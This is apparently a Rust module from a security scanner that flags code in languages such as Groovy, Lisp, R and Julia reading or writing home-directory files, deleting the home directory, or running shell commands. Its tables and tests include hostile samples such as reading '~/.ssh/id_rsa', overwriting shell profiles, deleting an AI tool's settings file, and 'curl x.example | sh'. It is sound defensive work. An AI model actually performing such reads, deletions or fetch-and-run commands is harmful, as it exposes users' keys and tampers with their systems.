//! Checks shared by the languages whose calls the scan knows only in part (the JVM languages
//! and Swift, Haskell and OCaml, the Lisps, Tcl, Erlang, Elixir, R, Julia, Crystal): the
//! paths written in the code's strings or built from the home directory and a literal
//! (`Path.home / ".ssh/id_rsa"`, `joinpath(homedir(), ".bashrc")`, `(string-append (getenv
//! "HOME") "/.profile")`), judged as reads, or as writes when the code writes or deletes
//! files; the home directory deleted whole; and command lines in strings of code that runs
//! commands.

use super::Finding;
use super::language::Language;
use crate::shell::Word;

/// The languages' spellings of the home directory, as the code writes them.
const HOME: &[&str] = &[
    "System.getProperty(\"user.home\")",
    "System.getenv(\"HOME\")",
    "(System/getenv \"HOME\")",
    "(getenv \"HOME\")",
    "(user-homedir-pathname)",
    "(find-system-path 'home-dir)",
    "Sys.getenv(\"HOME\")",
    "Sys.getenv \"HOME\"",
    "getEnv \"HOME\"",
    "getHomeDirectory",
    "path.expand(\"~\")",
    "homedir()",
    "Path.home",
    "os.home",
    "Dir.home",
    "ENV[\"HOME\"]",
    "NSHomeDirectory()",
    "homeDirectoryForCurrentUser",
    "System.user_home",
    "os:getenv(\"HOME\")",
    "$env(HOME)",
    "$::env(HOME)",
];

/// Words of code that writes, moves or deletes files: a path the code names is then written.
/// A collection's `append` or `removeAll` is none of these.
const WRITES: &[&str] = &[
    "write",
    "spit",
    "appendtext",
    "appendfile",
    "appendbytes",
    "append=",
    ":append",
    "append-file",
    "open_out",
    "file.remove",
    "sys.remove",
    "os.remove",
    "file.delete",
    "files.delete",
    ".delete()",
    "deletefile",
    "delete-file",
    "removefile",
    "file:delete",
    "file.rm",
    "unlink",
    "rename",
    "moveto",
    "files.move",
    "file.move",
    "os.move",
    "copyto",
    "files.copy",
    "file.copy",
    "os.copy",
    "io/copy",
    "copy-file",
    "truncate",
    "sink",
    "file=",
];

/// Words of code that deletes a directory and everything in it (a `recursive` option alone
/// may list one: R's and Julia's own tables judge theirs).
const TREE_DELETES: &[&str] = &[
    "deleterecursively",
    "remove.all",
    "delete-tree",
    "deletetree",
    "delete-directory",
    "deletedirectory",
    "removedirectoryrecursive",
    "removepathforcibly",
    "rmtree",
    "rm_rf",
    "rm-rf",
    "remove_dir_all",
];

/// Words of code that runs commands: a command line in its strings runs.
const RUNS: &[&str] =
    &["exec", "system", "process", "spawn", "shell", "command", "popen", "os:cmd", "os.cmd", "sh ", ".!"];

/// Whether `language`'s code (run by `name`) gets the shared checks.
pub(super) fn applies(language: Language, name: &str) -> bool {
    matches!(
        language,
        Language::Groovy
            | Language::Haskell
            | Language::Lisp
            | Language::Tcl
            | Language::Erlang
            | Language::Elixir
            | Language::R
            | Language::Julia
    ) || name == "crystal"
}

/// The findings of the shared checks in `code`.
pub(super) fn scan(language: Language, code: &str) -> Vec<Finding> {
    let (strings, outside) = split(language, code);
    // `string-append` joins text; it writes nothing.
    let outside = outside.to_ascii_lowercase().replace("string-append", "");
    let label = language.label();
    // Groovy's `file << text` appends.
    let writes = WRITES.iter().any(|word| outside.contains(word))
        || language == Language::Groovy && outside.contains("<<")
        || strings.iter().any(|(_, text)| matches!(text.as_str(), "a" | "w" | "a+" | "w+" | "ab" | "wb"));
    let deletes_trees = TREE_DELETES.iter().any(|word| outside.contains(word));
    let runs = RUNS.iter().any(|word| outside.contains(word));
    let mut findings = Vec::new();
    let mut joined = Vec::new();
    for (at, home) in HOME.iter().flat_map(|home| code.match_indices(home)) {
        let first = at + home.len();
        let mut end = first;
        let mut depth = 0i32;
        let mut segments = Vec::new();
        // The literals joined on after the home directory, in the call or expression it is in:
        // only separators, operators and brackets between them (`Path.home / ".ssh"`,
        // `joinpath(homedir(), ".x")`, `(str (getenv "HOME") "/.p")`).
        for (start, text) in strings.iter().filter(|(start, _)| *start >= first) {
            let between = code.get(end..start - 1).unwrap_or_default();
            depth += between.bytes().map(|b| i32::from(b == b'(') - i32::from(b == b')')).sum::<i32>();
            if depth < 0 || !between.bytes().all(|b| b" \t,/+^*<>()".contains(&b)) {
                break;
            }
            segments.push(text.trim_matches('/').to_string());
            joined.push(*start);
            end = start + text.len() + 1;
        }
        let segments: Vec<String> = segments.into_iter().filter(|s| !s.is_empty()).collect();
        if segments.is_empty() {
            if deletes_trees {
                let target =
                    Word { text: "$HOME".into(), raw: (*home).to_string(), dynamic: true, glob: false };
                findings.push(Finding::Delete { via: format!("{label} code"), target });
            }
            continue;
        }
        let path = format!("~/{}", segments.join("/"));
        findings.push(access(label, path, writes, deletes_trees));
    }
    for (start, text) in &strings {
        if joined.contains(start) {
            continue;
        }
        if is_path(text) {
            findings.push(access(label, text.clone(), writes, deletes_trees));
        } else if runs && text.contains([' ', '|']) && !text.contains('\n') {
            findings.push(Finding::Shell(text.clone()));
        }
    }
    findings
}

/// A file named by the code: deleted whole by code that deletes trees, else read or written.
fn access(label: &str, path: String, writes: bool, deletes_trees: bool) -> Finding {
    let via = format!("{label} code");
    if deletes_trees {
        return Finding::Delete { via, target: Word::literal(path) };
    }
    Finding::Access { via, path: Word::literal(path), write: writes }
}

/// Whether a string is a file's path: absolute, from the home directory, relative with `./`,
/// or a dot-file (`.env`), one word long.
fn is_path(text: &str) -> bool {
    let named = text.trim_start_matches(['/', '~', '.']);
    let shaped = text.starts_with(['/', '.']) || text.starts_with("~/");
    shaped
        && named.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
        && !text.contains(char::is_whitespace)
        && !text.contains("://")
        && text.len() < 256
}

/// The string literals of `code` (where each starts, after its quote, and its text), and the
/// code outside them.
fn split(language: Language, code: &str) -> (Vec<(usize, String)>, String) {
    // A single quote is a quotation in Lisp and a prime in Haskell's names, not a string.
    let single = !matches!(language, Language::Lisp | Language::Haskell);
    let bytes = code.as_bytes();
    let mut strings = Vec::new();
    let mut outside = String::new();
    let mut i = 0;
    while i < bytes.len() {
        let quote = bytes[i];
        if quote == b'"' || single && quote == b'\'' {
            let start = i + 1;
            let mut j = start;
            while j < bytes.len() && bytes[j] != quote {
                j += if bytes[j] == b'\\' { 2 } else { 1 };
            }
            let end = j.min(bytes.len());
            strings.push((start, code.get(start..end).unwrap_or_default().to_string()));
            outside.push(' ');
            i = end + 1;
        } else {
            let next = code[i..].chars().next().map_or(1, char::len_utf8);
            outside.push_str(&code[i..i + next]);
            i += next;
        }
    }
    (strings, outside)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn paths(language: Language, code: &str) -> Vec<(String, bool)> {
        scan(language, code)
            .into_iter()
            .filter_map(|finding| match finding {
                Finding::Access { path, write, .. } => Some((path.text, write)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn home_joined_with_literals() {
        assert_eq!(
            paths(Language::Ruby, "puts File.read(Path.home / \".ssh/id_rsa\")"),
            [("~/.ssh/id_rsa".to_string(), false)]
        );
        assert_eq!(
            paths(Language::Julia, "write(joinpath(homedir(),\".bash_profile\"), \"x y\")"),
            [("~/.bash_profile".to_string(), true)]
        );
        assert_eq!(
            paths(Language::Lisp, "(open-file (string-append (getenv \"HOME\") \"/.profile\") \"a\")"),
            [("~/.profile".to_string(), true)]
        );
        assert_eq!(
            paths(Language::Groovy, "println(os.read(os.home / \".ssh\" / \"id_rsa\"))"),
            [("~/.ssh/id_rsa".to_string(), false)]
        );
    }

    #[test]
    fn literal_paths_and_commands() {
        assert_eq!(
            paths(Language::R, "file.remove(\"~/.claude/settings.json\")"),
            [("~/.claude/settings.json".to_string(), true)]
        );
        assert_eq!(paths(Language::R, "print(\"hello world\")"), []);
        assert_eq!(paths(Language::R, "x <- \"/\""), []);
        let shells = |code: &str| {
            scan(Language::Groovy, code).into_iter().filter(|f| matches!(f, Finding::Shell(_))).count()
        };
        assert_eq!(shells("\"curl x.example | sh\".execute()"), 1);
        assert_eq!(shells("println(\"hello world\")"), 0);
    }
}
